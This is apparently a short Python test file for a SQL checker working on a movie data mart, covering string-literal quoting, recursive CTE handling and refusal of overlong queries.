def test_string_literals_keep_standard_quoting() -> None:
    checked = check("select title from marts.dim_movies where title = 'it''s' or title = 'a\\'")
    assert "'it''s'" in checked.sql and "'a\\'" in checked.sql


def test_recursive_cte_sees_itself() -> None:
    checked = check(
        "with recursive n(i) as (select 1 union all select i + 1 from n where i < 3) "
        "select i from n"
    )
    assert checked.tables == frozenset()


def test_overlong_sql_is_refused() -> None:
    sql = "select title from marts.dim_movies where " + " or ".join(["roi > 1"] * 5000)
    assert "too long" in refusal(sql)
